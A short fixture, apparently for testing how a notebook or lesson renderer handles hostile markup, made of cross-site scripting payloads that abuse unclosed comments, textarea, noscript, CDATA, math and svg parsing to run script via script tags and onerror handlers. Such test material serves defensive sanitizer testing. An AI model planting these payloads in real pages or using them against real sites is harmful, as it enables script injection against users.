"""Leaves comments, text areas, CDATA and attributes open, so that the rest of the page is swallowed or becomes markup."""

NOTEBOOK = "lesson"
START = "solutions"
EARNS = ["double", "Counter", "batches"]

# %% why
<!-- <textarea><title><noscript><xmp><plaintext> --!> <img src="x` `<script>alert(1)</script>"` `>
<![CDATA[<script>alert(2)</script>]]> <?php echo "<script>alert(3)</script>" ?> <math><mtext></form><form><mglyph><style></math><img src onerror=alert(4)>
<svg></p><style><a id="</style><img src=1 onerror=alert(5)>"> <noscript><p title="</noscript><img src=x onerror=alert(6)>">
<!--
